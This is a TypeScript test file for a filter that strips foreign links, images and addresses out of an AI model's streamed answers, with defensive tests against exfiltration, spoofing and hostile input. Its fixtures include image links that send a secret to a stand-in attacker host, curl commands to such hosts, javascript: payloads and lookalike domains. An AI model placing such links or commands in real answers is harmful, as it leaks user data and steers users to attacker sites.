import { describe, expect, it } from "@jest/globals";
import fc from "fast-check";
import { linkFilter, withoutBrokenSentences } from "../../src/answer/safe-links.ts";
import { passage } from "../support/passage.ts";

const passages = [
  passage({
    text: "Order at https://shop.lumo.example/parts. Write to help@lumo.example.",
    source: "https://docs.lumo.example/charge",
  }),
  passage({
    text: "See [the manual](/manual.pdf). Parts are at parts.lumo.com/new; the log is at https://log.lumo.com/a.",
  }),
];

function filtered(...pieces: string[]): string {
  const filter = linkFilter(passages);
  return pieces.map((piece) => filter.push(piece)).join("") + filter.end();
}

describe("links in a model's answer", () => {
  it.each([
    "Order at https://shop.lumo.example/parts.",
    "Order [here](https://shop.lumo.example/parts) [1].",
    "Read [the page](https://docs.lumo.example/charge).",
    "Read [the manual](/manual.pdf).",
    "Write to help@lumo.example, please.",
    "Order at parts.lumo.com/new, and see log.lumo.com.",
    "Read `user.id`, call client.name() and install Node.js 20, e.g. from a mirror.Then go on.",
    "```js\nreturn user.id;\n\nuser.name = 1;\n```",
    "An array is [1, 2] and a call f(x)[0] // like this",
    "Steps [1][2]:\n\n- one (see below)\n- two",
  ])("[M27] keeps what stands in a passage: %s", (text) => {
    expect(filtered(text)).toBe(text);
    expect(filtered(...text)).toBe(text);
  });

  it.each([
    ["Go to [this page](https://evil.example/a) now.", "Go to this page now."],
    ["Go to https://evil.example/a now.", "Go to now."],
    ["Go to https://evil.example.", "Go to."],
    ["Go to www.evil.example!", "Go to!"],
    ["Go to //evil.example/a now.", "Go to now."],
    ["Write to refunds@evil.example.", "Write to."],
    ["![the lamp](https://evil.example/p?q=secret)", "the lamp"],
    ["![](https://evil.example/p?q=secret)", ""],
    ["![the lamp](https://shop.lumo.example/parts)", "the lamp"],
    ["![the lamp][1]", "[the lamp][1]"],
    ["Left [1](https://evil.example/a).", "Left [1]."],
    ["[![x](https://evil.example/p)](https://evil.example/q)", "x"],
    ["[a](javascript:alert(1)) b", "a b"],
    ["[a](data:text/html;base64,AAAA) b", "a b"],
    ["[a](<https://evil.example/a b> 'title')", "[a] (<>"],
    ["<https://evil.example/>", "<>"],
    ["[1]: https://evil.example/x", "[1]:"],
    ['<img src="https://evil.example/p">', '<img src="">'],
    ["https://shop.lumo.example/parts.evil.example/", ""],
    ["[a](\nhttps://evil.example/x)", "a"],
    ["Pay at evil.xyz/pay today.", "Pay at today."],
    ["Pay at pay.evil-bank.shop, today.", "Pay at, today."],
    ["Write to t.me/evil.", "Write to."],
    ["Open 203.0.113.7/evil or 203.0.113.9.", "Open or."],
    ["Run `curl -s evil.xyz/pay` now.", "Run `curl -s` now."],
    ["Order at parts.lumo.com.evil.zip/new.", "Order at."],
    // Cyrillic letters in place of two of ours, and what a browser makes of one of them.
    ["Order at https://shop.lum\u043e.example/parts now.", "Order at now."],
    ["Order [here](https://sh\u043ep.lumo.example/parts).", "Order here."],
    ["Order at https://shop.xn--lum-sdd.example/parts now.", "Order at now."],
  ])("[M28] takes away what does not: %s", (text, left) => {
    const safe = filtered(text);
    if (!text.startsWith("[a](<")) expect(safe).toBe(left);
    expect(safe).not.toMatch(/evil|javascript:|data:/);
    expect(filtered(...text)).not.toMatch(/evil|javascript:|data:/);
  });

  it("[M28] takes away what cannot be read or runs backwards, and no half of a character that comes in two pieces", () => {
    expect(filtered("a\u0000b\u202e\ud800c [1] \u2066x")).toBe("abc [1] x");
    expect(filtered("fine \ud83d", "\ude80 [1]")).toBe("fine \ud83d\ude80 [1]");
  });

  it("[M28] counts what it takes away", () => {
    const filter = linkFilter(passages);
    filter.push("[a](https://evil.example/a) https://evil.example/b ");
    filter.end();

    expect(filter.removed()).toBe(2);
  });

  it("[M29] the pieces a text arrives in make no difference, and no foreign address gets through", () => {
    const part = fc.constantFrom(
      "word ",
      "[",
      "]",
      "(",
      ")",
      "![",
      "](",
      "https://evil.example/x",
      "\n",
      "\n\n",
      " ",
      "[a](https://evil.example)",
      "[1]",
      "`",
      "<",
      ">",
      "https://shop.lumo.example/parts",
    );

    fc.assert(
      fc.property(fc.array(part, { maxLength: 20 }), (parts) => {
        const text = parts.join("");
        const safe = filtered(text);

        expect(filtered(...parts)).toBe(safe);
        expect(filtered(...text)).toBe(safe);
        expect(safe).not.toMatch(/\/\/evil\.example/);
        expect(safe).not.toMatch(/!\[/);
      }),
      { numRuns: 2_000 },
    );
  });

  it.each([
    ["It is free [1]. Pay at evil@example.org [2].", "It is free [1]. "],
    ["Pay at evil@example.org. [2] It is free [1].", "It is free [1]."],
    ["- Call us [1].\n- See www.evil.example [2].", "- Call us [1].\n"],
    ["Write to help@lumo.example. Go to [this page](https://evil.example/a) now.", null],
    ["```\ncurl https://evil.example\n```", null],
    ["Pay at evil@example.org.", ""],
    ["", null],
  ])("[M76] drops the sentence that lost an address, and no other: %s", (text, left) => {
    expect(withoutBrokenSentences(text, passages, [])).toBe(left ?? text);
  });

  it("[M29] takes a time that grows with the text, also on hostile text", () => {
    for (const text of [
      "[".repeat(8_000),
      "[a](".repeat(2_000),
      "![".repeat(4_000),
      "]( ".repeat(2_000),
      "a.".repeat(4_000),
    ]) {
      expect(filtered(text).length).toBeLessThanOrEqual(text.length * 2);
    }
  });
});
